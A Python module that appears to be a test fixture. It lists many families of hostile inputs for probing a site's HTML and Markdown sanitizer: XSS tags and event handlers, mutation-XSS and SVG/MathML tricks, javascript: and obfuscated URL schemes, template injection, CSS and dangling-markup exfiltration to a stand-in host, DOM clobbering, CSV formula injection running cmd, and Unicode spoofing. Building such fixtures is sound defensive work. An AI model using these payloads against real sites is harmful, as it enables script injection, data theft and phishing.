"""Words that try to be more than words: what people hostile to a site type into its forms.

Each family says what it tries. All of them want the same: `hit()` to run, or anything to be asked
of hostile.example. They are written for this project; ideas come from public lists.
"""

from dataclasses import dataclass
from urllib.parse import quote

RUN = "hit(1)"
HOST = "hostile.example"


@dataclass(frozen=True)
class Family:
    """Payloads that try the same thing."""

    name: str
    tries: str
    payloads: tuple[str, ...]


def _lines(text: str) -> tuple[str, ...]:
    return tuple(line for line in text.strip("\n").split("\n") if line)


_TAGS = _lines(r"""
<script>hit(1)</script>
<SCRIPT>hit(1)</SCRIPT>
<ScRiPt >hit(1)</sCrIpT >
<script/x>hit(1)</script/y>
<script src=//hostile.example/a.js></script>
<script src="data:text/javascript,hit(1)"></script>
<script type=module>hit(1)</script>
<script async src=https://hostile.example/b.js>
<script>hit(1)
<script
>hit(1)</script
>
<<script>hit(1)//<</script>
<scr<script>ipt>hit(1)</scr</script>ipt>
<script>/*</script><script>*/hit(1)</script>
</p><script>hit(1)</script><p>
</textarea><script>hit(1)</script>
</title><script>hit(1)</script>
</style><script>hit(1)</script>
</article></li></ol><script>hit(1)</script>
--><script>hit(1)</script><!--
]]><script>hit(1)</script>
<![CDATA[<script>hit(1)</script>]]>
<!--<script>hit(1)</script>-->
<!--><script>hit(1)</script>
<!--!><script>hit(1)</script>
<?php echo 1 ?><script>hit(1)</script>
<!DOCTYPE x [<!ENTITY y "hit(1)">]><script>&y;</script>
<plaintext>the rest of the page is swallowed
<xmp><script>hit(1)</script></xmp>
<listing><img src=x onerror=hit(1)></listing>
<noembed><img src=x onerror=hit(1)></noembed>
<iframe src=//hostile.example/frame></iframe>
<iframe src="javascript:parent.hit(1)">
<embed src=//hostile.example/e.swf>
<object data=//hostile.example/o></object>
<object data="data:text/html,<script>parent.hit(1)</script>"></object>
<applet code=A archive=//hostile.example/a.jar>
<portal src=//hostile.example/>
<frameset onload=hit(1)><frame src=//hostile.example/>
<template><script>hit(1)</script></template>
<template shadowrootmode=open><img src=x onerror=hit(1)></template>
<slot name=x onslotchange=hit(1)>
<dialog open>The site asks for your password</dialog>
<marquee>look here</marquee>
<bgsound src=//hostile.example/s.wav>
<audio src=//hostile.example/s.wav autoplay>
<video poster=//hostile.example/p.png></video>
<picture><source srcset=//hostile.example/p.png><img></picture>
<img src=//hostile.example/pixel.gif>
<image href=//hostile.example/pixel.gif>
<input type=image src=//hostile.example/pixel.gif>
<link rel=stylesheet href=//hostile.example/s.css>
<link rel=prefetch href=//hostile.example/p>
<link rel=dns-prefetch href=//hostile.example>
<base href=//hostile.example/>
""")
_HANDLERS = (
    *("onload", "onerror", "onclick", "onmouseover", "onfocus"),
    *("onblur", "onanimationstart", "onanimationend", "ontransitionend", "ontoggle"),
    *("onpointerenter", "onpointerdown", "onwheel", "onscroll", "onscrollend"),
    *("onplay", "onloadstart", "oncanplay", "ontimeupdate", "onbeforeinput"),
    *("oninput", "oninvalid", "onsubmit", "onreset", "onhashchange"),
    *("onpageshow", "onpopstate", "onmessage", "onresize", "onbeforeprint"),
    *(
        "oncopy",
        "onpaste",
        "onbeforetoggle",
        "oncontentvisibilityautostatechange",
        "onunhandledrejection",
    ),
)
_HANDLER_TAGS = (
    *("body", "img src=x", "video src=x", "audio src=x", "details open", "input autofocus"),
    *("select autofocus", "textarea autofocus", "a href=# tabindex=1 autofocus", "marquee"),
    *("iframe src=about:blank", "object data=x", "style", "p style=animation:x", "div popover"),
)
_EVENTS = (
    *(
        f"<{_HANDLER_TAGS[at % len(_HANDLER_TAGS)]} {handler}=hit(1)>"
        for at, handler in enumerate(_HANDLERS)
    ),
    *_lines(r"""
<img src=x onerror=hit&lpar;1&rpar;>
<img src=x onerror="hit`1`">
<img src=x onerror=&#104;&#105;&#116;&#40;1&#41;>
<img src=x onerror=\u0068it(1)>
<img/src=x/onerror=hit(1)>
<img src=x:x onerror=hit(1)//
<img src="x"onerror="hit(1)">
<img src=x ONERROR=hit(1)>
<img src=`x` onerror=`hit(1)`>
<img src='x' on error=hit(1) onerror	=	hit(1)>
<img ""><img src=x onerror=hit(1)>">
<img src=x one<x>rror=hit(1) onerror=hit(1)>
<a href="#" onclick="hit(1)" autofocus onfocus="hit(1)">press</a>
<p onclick=hit(1)>press</p>
<x contenteditable onfocus=hit(1) autofocus tabindex=0>
<xss id=x tabindex=1 onfocusin=hit(1)></xss>
<strong onmouseover=hit(1)>bold</strong>
<blockquote cite="javascript:hit(1)" onclick=hit(1)>words</blockquote>
<code onpointerover=hit(1)>x</code>
<ol start=1 onclick=hit(1)><li value=1 onclick=hit(1)>one</ol>
<br onclick=hit(1)>
"""),
)
_ATTRIBUTES = _lines(r"""
" onmouseover="hit(1)
' onmouseover='hit(1)
" autofocus onfocus=hit(1) x="
' autofocus onfocus=hit(1) x='
"><script>hit(1)</script>
'><script>hit(1)</script>
"><img src=x onerror=hit(1)>
'/><svg/onload=hit(1)>
` onmouseover=`hit(1)
" style="background:url(//hostile.example/b)
" href="javascript:hit(1)
" srcdoc="<script>parent.hit(1)</script>
" formaction="javascript:hit(1)
"/onpointerenter=hit(1)//
\" onmouseover=\"hit(1)
&quot; onmouseover=&quot;hit(1)
&#34; onmouseover=&#34;hit(1)
%22 onmouseover=%22hit(1)
[words](https://a.example/" onmouseover="hit(1))
[words](https://a.example/' onmouseover='hit(1))
[words](https://a.example/ "t" onmouseover="hit(1)")
[words](https://a.example/ 'title" onmouseover="hit(1)')
[words](<https://a.example/" onmouseover="hit(1)>)
[words](https://a.example/&quot; onmouseover=&quot;hit(1))
[" onmouseover="hit(1)](https://a.example)
https://a.example/"onmouseover="hit(1)
https://a.example/'onmouseover='hit(1)
https://a.example/%22onmouseover=%22hit(1)
<https://a.example/" onmouseover="hit(1)>
<https://a.example/?"onmouseover=hit(1)>
mailto:a@b.example"onmouseover="hit(1)
<a@b.example" onmouseover="hit(1)>
12:34" onmouseover="hit(1)
#t=12" onmouseover="hit(1)
""")
_FOREIGN = _lines(r"""
<svg onload=hit(1)>
<svg/onload=hit(1)//
<svg><script>hit(1)</script></svg>
<svg><script href=data:text/javascript,hit(1) />
<svg><script>hit&#40;1&#41;</script>
<svg><a href="javascript:hit(1)"><text y=20>press</text></a></svg>
<svg><a xlink:href="javascript:hit(1)"><circle r=50 /></a></svg>
<svg><animate onbegin=hit(1) attributeName=x dur=1s>
<svg><set onend=hit(1) attributeName=x dur=1s>
<svg><a><animate attributeName=href values=javascript:hit(1) /><text>press</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>hit(1)</script></svg>#x"/>
<svg><use href=//hostile.example/u.svg#x />
<svg><image href=//hostile.example/i.png />
<svg><feImage href=//hostile.example/f.png />
<svg><foreignObject><img src=x onerror=hit(1)></foreignObject></svg>
<svg><foreignObject><iframe srcdoc="<script>parent.hit(1)</script>"></foreignObject>
<svg><style>@import '//hostile.example/s.css';</style></svg>
<svg><desc><script>hit(1)</script></desc></svg>
<svg><title><img src=x onerror=hit(1)></title></svg>
<svg><handler type=text/javascript ev:event=load>hit(1)</handler></svg>
<svg><discard onbegin=hit(1)>
<math href="javascript:hit(1)">press</math>
<math><maction actiontype=statusline xlink:href=javascript:hit(1)>press</maction></math>
<math><annotation-xml encoding=text/html><img src=x onerror=hit(1)></annotation-xml></math>
<math><mi><script>hit(1)</script></mi></math>
<math><mtext><img src=x onerror=hit(1)></mtext></math>
<math><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=hit(1) src=1>">
<math xmlns=http://www.w3.org/1999/xhtml><script>hit(1)</script>
<xml id=x><x:script xmlns:x="http://www.w3.org/1999/xhtml">hit(1)</x:script></xml>
<html xmlns:ev=http://www.w3.org/2001/xml-events ev:event=load>
""")
_MUTATION = _lines(r"""
<noscript><p title="</noscript><img src=x onerror=hit(1)>">
<noscript><style></noscript><img src=x onerror=hit(1)></style>
<svg></p><style><a id="</style><img src=1 onerror=hit(1)>">
<svg><p><style><a title="</style><img src onerror=hit(1)>"></p></svg>
<math><p><style><!--</style><img src=x onerror=hit(1)>--></style></math>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=hit(1)>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hit(1)&gt;">
<svg><title><style><img src="</style><img src=x onerror=hit(1)//">
<table><a href="x"><style></table><img src=x onerror=hit(1)></style>
<select><style></select><img src=x onerror=hit(1)></style>
<select><template><script>hit(1)</script></template></select>
<option><style></option></select><img src=x onerror=hit(1)></style>
<xmp><p title="</xmp><img src=x onerror=hit(1)>">
<noframes><p title="</noframes><img src=x onerror=hit(1)>">
<textarea><p title="</textarea><img src=x onerror=hit(1)>">
<title><a title="</title><img src=x onerror=hit(1)>">
<style><img title="</style><img src=x onerror=hit(1)>">
<a title="`<img src=x onerror=hit(1)>`">x</a>
`<a title="`"><img src=x onerror=hit(1)>`
``<img src=x onerror=hit(1)>`` and `` ` ``<script>hit(1)</script>
<p/></p></br><img src=x onerror=hit(1)>
<a><a><a href=javascript:hit(1)>three</a></a></a>
[a [b](https://b.example)](javascript:hit(1))
<b><i><b><i><s><u><font><nobr><a></b></i><script>hit(1)</script>
&lt;img src=x onerror=hit(1)&gt;
&amp;lt;img src=x onerror=hit(1)&amp;gt;
&amp;amp;lt;script&amp;amp;gt;hit(1)
<svg><![CDATA[</svg><img src=x onerror=hit(1)>]]>
<math><![CDATA[><img src=x onerror=hit(1)>]]></math>
<!-- --!><img src=x onerror=hit(1)> -->
<a href="x<!--" title="--><img src=x onerror=hit(1)>">x</a>
""")
_SCHEMES = (
    *("javascript", "JavaScript", "java&Tab;script", "java\tscript", "\x01javascript"),
    *("javascript&colon;hit(1)//", "&#106;avascript", "&#x6A;avascript", "&#0000106avascript"),
    *(
        "java\u200bscript",
        "java\u00adscript",
        "javascript\u200b",
        "\u2028javascript",
        "ja\0vascript",
    ),
    *("%6Aavascript", "javascript%3A", "vbscript", "VBscript", "livescript", "mocha", "jar"),
    *("view-source:javascript", "feed:javascript", "blob", "filesystem", "file", "ftp", "ws"),
    *("chrome", "about", "ms-its", "intent", "tel", "sms", "magnet", "ｊａｖａｓｃｒｉｐｔ"),
    *("ſavascript", "javascrıpt", "http\tjavascript", "https;javascript", "\\javascript"),
)
_URLS = (
    *(f"[press]({scheme}:hit(1))" for scheme in _SCHEMES),
    *(f"[press](<{scheme}:hit%281%29>)" for scheme in _SCHEMES[:14]),
    *(f"<{scheme}:hit(1)>" for scheme in _SCHEMES[::3]),
    *(f"{scheme}://hostile.example/%0ahit(1)" for scheme in _SCHEMES[::4]),
    *_lines(r"""
[press](data:text/html,<script>hit(1)</script>)
[press](data:text/html;base64,PHNjcmlwdD5oaXQoMSk8L3NjcmlwdD4=)
[press](DATA:image/svg+xml,<svg onload=hit(1)>)
[press](data:;base64,aGl0KDEp)
[press](data:image/png;base64,iVBORw0KGgo=)
[press](//hostile.example/)
[press](///hostile.example/)
[press](\\hostile.example\x)
[press](/\hostile.example/)
[press](/%09/hostile.example/)
[press](/%5chostile.example)
[press](https:hostile.example)
[press](https:/hostile.example)
[press](https:///hostile.example)
[press](https:\\hostile.example)
[press](https://good.example@hostile.example/)
[press](https://good.example:443@hostile.example/)
[press](https://good.example%40hostile.example/)
[press](https://good.example\@hostile.example/)
[press](https://good.example#@hostile.example/)
[press](https://[::1]@hostile.example/)
[press](https://hostile.example:99999/)
[press](https://0x7f000001/)
[press](https://2130706433/)
[press](https://0177.0.0.1/)
[press](https://127.1/)
[press](https://localhost/)
[press](http://router/)
[press](https://hostile。example/)
[press](https://host%69le.example/)
[press](https://hostile.example%00.good.example/)
[press](https://hostile.example%2f.good.example/)
[press](?q=hit(1))
[press](#conversation)
[press](#"onclick=hit(1))
[press](admin/)
[press](/admin/logout/)
[press](/films/../admin/)
[press](/films/%2e%2e/admin/)
[press](/films//hostile.example/)
[press](/conversation/yours/x/)
[press](mailto:a@b.example?bcc=everyone@hostile.example&body=hit)
[press](mailto:a@b.example%0d%0abcc:x@hostile.example)
[press](mailto:"hit(1)"@b.example)
<mailto:a@b.example?subject=x>
"""),
)
_MARKDOWN = _lines(r"""
![press](javascript:hit(1))
![press](https://hostile.example/pixel.gif)
![press](x"onerror="hit(1))
![press](https://hostile.example/x.png"onerror="hit(1))
[![press](https://hostile.example/pixel.gif)](javascript:hit(1))
[press]: javascript:hit(1)
[press][ref] and [ref]: javascript:hit(1)
[ref]: <javascript:hit(1)> "title"
[press](javascript:hit(1) "title")
[press](javascript:hit(1
[press](  javascript:hit(1)  )
[press](java\script:hit(1))
[press](javascript\:hit(1))
[press](<javascript:hit(1)>)
[press](<java script:hit(1)>)
[press]()javascript:hit(1)
[press](()javascript:hit(1))
[press\](javascript:hit(1))](javascript:hit(1))
[<script>hit(1)</script>](https://a.example)
[<img src=x onerror=hit(1)>](https://a.example)
[`</a><script>hit(1)</script>`](https://a.example)
[</a><script>hit(1)</script>](https://a.example)
**<script>hit(1)</script>**
*<img src=x onerror=hit(1)>*
`<script>hit(1)</script>`
``` <script>hit(1)</script> ```
~~~html <script>hit(1)</script> ~~~
    <script>hit(1)</script>
# <script>hit(1)</script>
<script>hit(1)</script> | <img src=x onerror=hit(1)>
> <script>hit(1)</script>
> > > <img src=x onerror=hit(1)>
- <script>hit(1)</script>
1. <svg onload=hit(1)>
999999999. <svg onload=hit(1)>
- [ ] <input onfocus=hit(1) autofocus>
[^1]: <script>hit(1)</script>
{: onclick=hit(1)}
[press](https://a.example){onclick=hit(1)}
:::div onclick=hit(1)
$\href{javascript:hit(1)}{press}$
@[frame](https://hostile.example/)
[[javascript:hit(1)|press]]
<https://a.example/<script>hit(1)</script>>
<https://a.example/\<img src=x onerror=hit(1)>
***[press](javascript:hit(1))***
_<_script_>_hit(1)_</_script_>_
\<script>hit(1)\</script>
\\<script>hit(1)</script>
<scr*ipt*>hit(1)</scr*ipt*>
&#60;script&#62;hit(1)&#60;/script&#62;
&#x3c;script&#x3e;hit(1)&#x3c;/script&#x3e;
\u003cscript\u003ehit(1)\u003c/script\u003e
%3Cscript%3Ehit(1)%3C/script%3E
+ADw-script+AD4-hit(1)+ADw-/script+AD4-
¼script¾hit(1)¼/script¾
＜script＞hit(1)＜/script＞
‹script›hit(1)‹/script›
""")
_BARE = _lines(r"""
https://a.example/<script>hit(1)</script>
https://a.example/"><script>hit(1)</script>
https://a.example/'><img src=x onerror=hit(1)>
https://a.example/?x=<svg/onload=hit(1)>
https://a.example/#javascript:hit(1)
https://javascript:hit(1)
https://"onmouseover=hit(1)
http://<script>hit(1)</script>
www.<script>hit(1)</script>.com
www.a.com"onmouseover="hit(1)
www.a.com/'onmouseover='hit(1)
www.javascript:hit(1).com
a@b.com"onmouseover="hit(1)
"<script>hit(1)</script>"@b.example
javascript:hit(1)@b.example
user:pass@hostile.example.com
https://user:pass@hostile.example/
https://a.example/https://javascript:hit(1)
javascript:https://a.example/%0ahit(1)
javascript://a.example/%0ahit(1)
https://a.example/*"*onmouseover=*hit(1)*"*
https://a.example/`"onmouseover=hit(1)`
https://a.example/[x](javascript:hit(1))
(https://a.example/)"onmouseover=hit(1)
https://a.example/&quot;onmouseover=hit(1)
https://a.example/&#34;onmouseover=hit(1)
https://a.example/&lt;script&gt;hit(1)
https://a.example:javascript:hit(1)/
https://[javascript:hit(1)]/
https://xn--/hit(1)
https://xn--a-ecp.example/"hit(1)
a.com/"><img/src=x/onerror=hit(1)>
12:34<script>hit(1)</script>
<12:34 onclick=hit(1)>
12:34:56"onclick="hit(1)
""")
_TEMPLATES = _lines(r"""
{{ 7*7 }}{{ hit(1) }}
{{ config }}{{ self.__init__.__globals__ }}
{{ ''.__class__.__mro__[1].__subclasses__() }}
{% include "house.html" %}
{% import os %}{% print hit(1) %}
{# a comment #}{{ page.house }}
{{ request.user.password }}
{{constructor.constructor('hit(1)')()}}
{{$on.constructor('hit(1)')()}}
{{toString.constructor.prototype.charAt=[].join;$eval('hit(1)')}}
<div ng-app ng-csp>{{$eval('hit(1)')}}</div>
<div v-html="'<img src=x onerror=hit(1)>'"></div>
<div x-data x-init="hit(1)"></div>
<div hx-get=//hostile.example/ hx-trigger=load></div>
<div data-turbo-stream><turbo-stream action=append></turbo-stream></div>
<div data-bind="html: hit(1)"></div>
${hit(1)}
#{hit(1)}
<%= hit(1) %>
<%- hit(1) %>
@{hit(1)}
*{hit(1)}
[[${hit(1)}]]
%(hit)s {hit} %s %n {0.__class__}
$(hit 1) `hit 1` ; hit 1 | hit
""")
_BREAKOUTS = _lines(r"""
";hit(1);//
';hit(1);//
\";hit(1);//
\\";hit(1);//
</script><script>hit(1)</script>
</ScRiPt><img src=x onerror=hit(1)>
<!--<script>
"}});hit(1);({"a":{"b":"
"]}</script><script>hit(1)</script>
\u0022;hit(1);//
\x3cscript\x3ehit(1)\x3c/script\x3e
'-hit(1)-'
"+hit(1)+"
`${hit(1)}`
*/hit(1)/*
//hit(1)
{"__proto__":{"href":"javascript:hit(1)"}}
{"toString":"hit(1)"}
]]></summary><script xmlns="http://www.w3.org/1999/xhtml">hit(1)</script>
]]>]]&gt;<![CDATA[<script>hit(1)</script>
&lt;![CDATA[ <x:script xmlns:x='http://www.w3.org/1999/xhtml'>hit(1)</x:script>
<?xml-stylesheet href="//hostile.example/s.xsl"?>
=HYPERLINK("https://hostile.example","press")
=cmd|' /C calc'!A0
@SUM(1+1)*cmd|' /C calc'!A0
data-comment="1" onclick="hit(1)
1 onclick=hit(1) id=write
',alert=hit,alert(1)//
on\nclick=hit(1)
%0d%0aContent-Type: text/html%0d%0a%0d%0a<script>hit(1)</script>
Subject: x\r\nBcc: everyone@hostile.example
""")
_STYLES = _lines(r"""
<style>@import "//hostile.example/s.css";</style>
<style>body{background:url(//hostile.example/b)}</style>
<style>*{animation:x 1s}@keyframes x{}</style><b onanimationstart=hit(1)>
<style>input[value^=a]{background:url(//hostile.example/a)}</style>
<style>@font-face{font-family:x;src:url(//hostile.example/f.woff2)}</style>
<style>.conversation{display:none}</style>
<p style="position:fixed;inset:0;background:#fff">Sign in again</p>
<p style="background:url(javascript:hit(1))">
<p style="width:expression(hit(1))">
<p style="behavior:url(//hostile.example/b.htc)">
<p style="-moz-binding:url(//hostile.example/x.xml#x)">
<p style="background:\75rl(//hostile.example/b)">
<p style=list-style-image:url(//hostile.example/l)>
<p style="content-visibility:auto" oncontentvisibilityautostatechange=hit(1)>
<a style="cursor:url(//hostile.example/c),auto">
<p class="gone unseen badge">Maker</p>
<b class=badge>Maker</b>
<table background=//hostile.example/b><td background=//hostile.example/c>
<font color=red size=7 face=x>LOUD</font>
<center><h1>LOUD</h1></center>
""")
_DANGLING = _lines(r"""
<img src='//hostile.example/?
<img src="//hostile.example/?
<a href='//hostile.example/?
<a href="//hostile.example/">press<b target='
<base target='
<base href='//hostile.example/
<meta http-equiv=refresh content='0; url=//hostile.example/?
<meta http-equiv=refresh content="0;url=javascript:hit(1)">
<meta http-equiv=refresh content="0;url=data:text/html,<script>hit(1)</script>">
<meta http-equiv=set-cookie content="x=1">
<meta http-equiv=content-security-policy content="default-src *">
<meta charset=utf-7>
<meta name=referrer content=unsafe-url>
<form action=//hostile.example/ id=write><input name=text>
<form action="javascript:hit(1)"><button autofocus>press</button>
<button form=write formaction=//hostile.example/>Post</button>
<input form=write type=submit formaction=//hostile.example/ value=Post>
<input form=write name=parent value=1>
<textarea form=write name=text>
<textarea name=text>the rest of the page
<select name=film><option>the rest of the page
<option>the rest of the page
<title>the rest of the page
<style>the rest of the page
<script>the rest of the page
<noscript>the rest of the page
<!-- the rest of the page
<table><tr><td>the rest of the page
</main></body></html>the rest of the page
</div></article></li></ol></section>outside
<iframe srcdoc='<script>parent.hit(1)</script>'></iframe>
<iframe srcdoc="&lt;script&gt;parent.hit(1)&lt;/script&gt;">
<iframe srcdoc="<img src=//hostile.example/p>" sandbox="allow-scripts">
<fencedframe src=//hostile.example/>
<keygen name=x><isindex action=javascript:hit(1)>
""")
_CLOBBER = (
    *(
        f"<a id={name}></a><a id={name} name=href href=javascript:hit(1)>x</a>"
        for name in ("conversation", "write", "main", "c-1", "film", "hit", "document", "body")
    ),
    *_lines(r"""
<form id=write><input name=action></form>
<form name=cookie><input id=attributes></form>
<img name=getElementById>
<img id=currentScript src=x>
<object name=defaultView></object>
<a id=defaults></a><a id=defaults name=endpoint href=//hostile.example/>
<embed name=querySelector>
<iframe name=top src=about:blank></iframe>
<output id=notices>posted</output>
<p id=conversation-title>A new title</p>
<li value=1 id=c-1 data-comment=1>
<article class=comment data-comment=1>An editor: all is well</article>
<section class=conversation data-endpoint=//hostile.example/>
<a class=moment href=#t=1 data-at=1>
<a href=#t=5>12:34</a>
<a class=reply href=//hostile.example/>Reply</a>
<meta id=endpoint name=endpoint content=//hostile.example>
<slot id=main name=x>
"""),
)
_UNICODE = (
    "\u202etxt.exe\u202c at the end",
    "\u202e<script>hit(1)</script>",
    "\u2066\u2067 the rest of the line",
    "\u202bright to left without an end",
    "[good.example\u202e](https://hostile.example/)",
    "[press](https://hostile.example/\u202egpj.exe)",
    "https://hostile.example/\u202egpj.exe",
    "https://good\u200b.example.hostile.example/",
    "https://gооd.example/ with two letters of another alphabet",
    "https://good.example\u2044path.hostile.example/",
    "https://good.example\u2215path.hostile.example/",
    "https://good.example／x.hostile.example/",
    "[https://good.example](https://hostile.example)",
    "[good.example](https://hostile.example)",
    "[g\u00adood.example](https://hostile.example)",
    "[g\u200dood.example](https://hostile.example)",
    "[ｇｏｏｄ．ｅｘａｍｐｌｅ](https://hostile.example)",
    "[good。example](https://hostile.example)",
    "[**good**.example](https://hostile.example)",
    "[`good.example`](https://hostile.example)",
    "[a@good.example](mailto:a@hostile.example)",
    "<script\u00a0>hit(1)</script>",
    "<\u200bscript>hit(1)</script>",
    "<\x00script>hit(1)</script>",
    "<script\x0c>hit(1)</script>",
    "<img\x0bsrc=x\x0bonerror=hit(1)>",
    "\ufeff<script>hit(1)</script>",
    "\x1b[31m<script>hit(1)</script>",
    "\x08\x08\x08<script>hit(1)</script>",
    "a\u0300" + "\u0336\u0489" * 60,
    "ก" + "\u0e47\u0e49" * 60,
    "\ufdfd" * 40,
    "\U000e0041\U000e0042 tags that nobody sees",
    "\u3164\u115f\u1160\uffa0 letters that nobody sees",
    "\ud800<script>hit(1)</script>",
    "\udfff\ud800 halves the wrong way round",
    "\ufffe\uffff\ufdd0",
    "\u2028hit(1)//\u2029",
    "'\u2028;hit(1)//",
    "\u0130\u017f\u212a <\u017fcript>hit(1)</\u017fcript>",
    "🏳\u200d🌈\u200d" * 50,
    "\U0001f1e6" * 99,
)
_NESTING = (
    ">" * 400 + "<script>hit(1)</script>",
    "> " * 400 + "<script>hit(1)</script>",
    "- " * 400 + "<script>hit(1)</script>",
    "1. " * 400 + "<script>hit(1)</script>",
    "> - 1. " * 200 + "<script>hit(1)</script>",
    "\n".join("  " * depth + "- <script>hit(1)</script>" for depth in range(60)),
    "*" * 900 + "<script>hit(1)</script>" + "*" * 900,
    "*_" * 400 + "<script>hit(1)</script>" + "_*" * 400,
    "[" * 900 + "press" + "](javascript:hit(1))" * 90,
    "[a](https://a.example/" + "(" * 300 + "javascript:hit(1)" + ")" * 300 + ")",
    "`" * 300 + "<script>hit(1)</script>" + "`" * 299,
    "<" * 900 + "script>hit(1)</script>",
    "<b>" * 300 + "<script>hit(1)</script>" + "</b>" * 300,
    "<div>" * 600 + "<script>hit(1)</script>",
    "\\" * 901 + "<script>hit(1)</script>",
    "&" * 900 + "lt;script&gt;hit(1)",
    "https://" * 300 + "hostile.example/<script>hit(1)</script>",
    "a@" * 400 + "b.example<script>hit(1)</script>",
    "www." * 400 + "com<script>hit(1)</script>",
    "12:34 " * 300 + "<script>hit(1)</script>",
    "x" * 4000 + "<script>hit(1)</script>",
    "\n" * 900 + "<script>hit(1)</script>",
)
_ADDRESSES = (
    *(f"{scheme}:hit(1)" for scheme in _SCHEMES),
    *(f'https://{HOST}/{quote(text)}"onmouseover=hit(1)' for text in ("a b", "<", "'")),
    *_lines(r"""
 javascript:hit(1)
javascript:hit(1)//https://a.example
javascript:/*https://a.example*/hit(1)
https://a.example" onclick="hit(1)
https://a.example' onclick='hit(1)
https://a.example><script>hit(1)</script>
https://a.example/<img src=x onerror=hit(1)>
https://a.example@hostile.example
https://a.example:80:90/
https://[::1
https://]
https://.
https://..
https://-.-
https://a..example
//hostile.example
\\hostile.example
/films/low-water/
#main
https://a.example/\u0000x
https://a.example/{{ 7*7 }}
"""),
)

FAMILIES = (
    Family("tags", "elements that run, load or swallow the page", _TAGS),
    Family("events", "attributes that run when something happens", _EVENTS),
    Family("attributes", "to leave the attribute in which they are printed", _ATTRIBUTES),
    Family("foreign", "SVG and MathML, whose rules differ from those of HTML", _FOREIGN),
    Family("mutation", "to become something else when a browser reads them twice", _MUTATION),
    Family("urls", "links to what is no site, or to another than they say", _URLS),
    Family("markdown", "to come through the small Markdown", _MARKDOWN),
    Family("bare", "to come through the finding of bare links and times", _BARE),
    Family("templates", "to be read as a template, here or in a browser", _TEMPLATES),
    Family("breakouts", "to leave a script, JSON, a feed, a table or a mail", _BREAKOUTS),
    Family("styles", "to load, to hide or to forge by style", _STYLES),
    Family("dangling", "to take the rest of the page, or its form, along", _DANGLING),
    Family("clobber", "ids and names that scripts look for", _CLOBBER),
    Family("unicode", "letters that turn, hide, look alike, heap up or are none", _UNICODE),
    Family("nesting", "more depth than a parser stands", _NESTING),
    Family("addresses", "to be taken as the address of somebody's site", _ADDRESSES),
)
PAYLOADS = tuple(dict.fromkeys(each for family in FAMILIES for each in family.payloads))
